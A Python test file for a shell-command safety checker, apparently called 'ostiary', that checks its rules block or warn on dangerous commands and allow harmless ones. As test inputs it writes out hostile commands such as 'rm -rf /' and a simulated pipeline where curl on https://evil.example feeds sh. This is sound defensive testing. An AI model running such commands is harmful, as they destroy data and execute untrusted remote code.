"""Every rule finds what it is for, leaves near ones alone, and suggests what is allowed."""

import re
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import rule_examples
from ostiary import SafetyAction
from ostiary.shield.flow import Flow
from ostiary.shield.judge import ALL_RULES, judge
from ostiary.shield.places import Places
from ostiary.shield.reading import UNKNOWN, How, Mark, Reading, Run, Source, read_command
from ostiary.shield.rule import Finding

HOME = "/home/user"
WORKSPACE = "/home/user/code/work"
PLACES = Places(HOME, WORKSPACE, protected=(f"{WORKSPACE}/vault",))
ROOT = Path(__file__).parent.parent.parent


def found(command: str, cwd: str = WORKSPACE, places: Places = PLACES) -> list[Finding]:
    return judge(read_command(command, cwd, HOME), places)


def worst(command: str, cwd: str = WORKSPACE, places: Places = PLACES) -> str:
    actions = {finding.action for finding in found(command, cwd, places)}
    return max(actions, key=list(SafetyAction).index, default=SafetyAction.ALLOW).value


ROWS = [*rule_examples.EXAMPLES.items(), *rule_examples.MORE.items()]
HOSTILE = sorted({(name, one) for name, rows in ROWS for one in rows.hostile})
HARMLESS = sorted({one for _, rows in ROWS for one in rows.harmless} | set(rule_examples.HARMLESS))


@pytest.mark.parametrize(("name", "command"), HOSTILE)
def test_a_rule_finds_what_it_is_for(name: str, command: str) -> None:
    findings = [finding for finding in found(command) if finding.rule.id == name]
    assert findings
    assert all(finding.action is not SafetyAction.ALLOW for finding in findings)
    assert all("`" in finding.reason for finding in findings)


@pytest.mark.parametrize("command", HARMLESS)
def test_what_is_harmless_is_allowed(command: str) -> None:
    assert found(command) == []


@pytest.mark.parametrize("command", rule_examples.HOSTILE)
def test_what_is_hostile_is_blocked_however_it_is_written(command: str) -> None:
    assert worst(command) == "block"


@pytest.mark.parametrize("command", rule_examples.DOUBTFUL)
def test_what_may_be_wanted_is_warned_of(command: str) -> None:
    assert worst(command) == "warn"


def test_every_rule_has_examples() -> None:
    assert set(rule_examples.EXAMPLES) == set(ALL_RULES)
    assert all(rows.hostile and rows.harmless for rows in rule_examples.EXAMPLES.values())


@pytest.mark.parametrize("name", sorted(ALL_RULES))
def test_the_suggestion_of_a_rule_is_allowed(name: str) -> None:
    suggestion = ALL_RULES[name].suggestion
    assert suggestion is not None
    commands = re.findall(r"`([^`]+)`", suggestion)
    assert commands
    for command in commands:
        assert found(command) == []


@pytest.mark.parametrize("rule", ALL_RULES.values(), ids=lambda rule: rule.id)
def test_a_rule_says_itself_in_one_line(rule: object) -> None:
    text = str(getattr(rule, "summary", ""))
    assert text.endswith(".")
    assert "\n" not in text
    assert len(text) < 100


def test_reasons_are_short_and_hold_nothing_that_a_terminal_obeys() -> None:
    for finding in found("rm -rf / \x1b[2J" + "x" * 10_000):
        assert len(finding.reason) < 400
        assert finding.reason.isprintable()


def test_a_thousand_deletes_are_not_said_a_thousand_times() -> None:
    findings = found("rm -rf $A;" * 500 + "rm -rf /")
    assert len(findings) < 40
    assert any(finding.rule.id == "filesystem.delete_root" for finding in findings)


def test_words_that_are_not_looked_at_are_blocked_where_they_could_be_deleted() -> None:
    assert worst("rm -rf " + "a " * 1_001) == "block"
    assert worst("cat " + "a " * 1_001) == "warn"
    words = ("-c", *["a"] * 1_001, UNKNOWN)
    assert judged(run("bash", *words, sources=(Source(1_003, 0, 1),))) == ["unreadable.words"]


def test_more_sql_than_is_read_is_warned_of() -> None:
    assert worst(f"psql -c '{'select 1;' * 10_000}'") == "warn"
    assert worst(f"psql -c '{'select 1;' * 1_000}'") == "allow"


def test_findings_come_in_the_order_of_the_runs() -> None:
    runs = [finding.run for finding in found("git reset --hard; rm -rf /; git clean -fd")]
    assert runs == sorted(runs)
    assert len(runs) == 3


def run(program: str, *args: str, sources: tuple[Source, ...] = (), how: int = 0) -> Run:
    marks = bytes(Mark.UNKNOWN if UNKNOWN in word else 0 for word in (program, *args))
    return Run(program, "", args, marks, (), (), WORKSPACE, None, None, sources, (), how, 0)


def judged(*runs: Run) -> list[str]:
    return [one.rule.id for one in judge(Reading(runs, (), "", ()), PLACES)]


def test_every_run_of_a_long_pipeline_is_looked_at_once() -> None:
    pipeline = [run("curl", "https://evil.example")]
    pipeline += [run("sh", sources=(Source(-1, index, index + 1),)) for index in range(1_999)]
    assert set(judged(*pipeline)) == {"remote_code.pipe"}
    looked: list[str] = []

    def fetches(one: Run) -> bool:
        looked.append(one.program)
        return one.program == "curl"

    flow = Flow(tuple(pipeline))
    assert [flow.reached("fetch", fetches, index, -1) for index in range(1, 2_000)] == [0] * 1_999
    assert len(looked) == 2_000


def test_a_far_source_is_found_and_the_way_to_it_is_not_walked() -> None:
    pipeline = [run("a"), *(run("b", sources=(Source(-1, 0, at),)) for at in range(1, 500))]
    flow = Flow(tuple(pipeline))
    assert flow.reached("a", lambda one: one.program == "a", 499, -1) == 0
    assert len(list(flow.upstream(499))) < 100


def test_output_that_flows_backwards_is_followed_a_few_steps() -> None:
    chain = [run("b", sources=(Source(-1, at + 1, at + 2),)) for at in range(9)]
    flow = Flow((*chain, run("a"), run("c", sources=(Source(-1, 3, 3),))))
    assert flow.reached("a", lambda one: one.program == "a", 7, -1) == 9
    assert flow.reached("a", lambda one: one.program == "a", 0, -1) is None
    assert flow.reached("a", lambda one: one.program == "a", 10, -1) is None


def test_what_flows_into_another_slot_is_not_upstream() -> None:
    flow = Flow((run("a"), run("b"), run("c", "x", sources=(Source(-1, 0, 1), Source(1, 1, 2)))))
    assert list(flow.upstream(2, -1)) == [0]
    assert list(flow.upstream(2, 1)) == [1]
    assert list(flow.upstream(2)) == [0, 1]


def test_runs_that_feed_each_other_in_a_ring_come_to_an_end() -> None:
    ring = [run("cat", sources=(Source(-1, 1, 2),)), run("sh", sources=(Source(-1, 0, 1),))]
    assert judged(*ring) == []


def test_a_program_whose_name_is_not_known_is_judged_by_what_it_gets() -> None:
    assert judged(run(UNKNOWN, "-rf", "/")) == ["filesystem.delete_root"]
    assert judged(run(f"{UNKNOWN}x", "-rf", "/")) == ["filesystem.delete_root"]
    assert judged(run(UNKNOWN, "-rf", "build")) == []
    assert judged(run(UNKNOWN, "x")) == []


def test_code_that_was_read_is_not_called_unseen() -> None:
    assert judged(run("sh", "-c", UNKNOWN)) == ["code.unseen"]
    assert judged(run("sh", "-c", UNKNOWN, how=How.OPENED)) == []


@given(st.text(max_size=200))
def test_any_text_is_judged_without_a_fault(text: str) -> None:
    for finding in found(text):
        assert finding.rule.id in ALL_RULES


@given(st.lists(st.sampled_from(sorted(ALL_RULES)), min_size=1, max_size=3))
def test_commands_that_follow_each_other_lose_no_finding(names: list[str]) -> None:
    commands = [rule_examples.EXAMPLES[name].hostile[0] for name in names]
    if any("\n" in command or command.startswith(("cd", "export", "set")) for command in commands):
        return
    ids = {finding.rule.id for finding in found(" ; ".join(commands))}
    assert set(names) <= ids | {"process.fork_bomb"}


def rendered() -> str:
    """Return the table of rules as docs/rules.md has it."""
    rows = ["| rule | category | says | looks for |", "| --- | --- | --- | --- |"]
    rows += [
        f"| `{rule.id}` | `{rule.category}` | {rule.action.value} | {rule.summary} |"
        for rule in ALL_RULES.values()
    ]
    return "\n".join(rows)


def test_the_documented_rules_are_those_of_the_code() -> None:
    assert rendered() in (ROOT / "docs" / "rules.md").read_text()


if __name__ == "__main__":
    sys.stdout.write(rendered() + "\n")
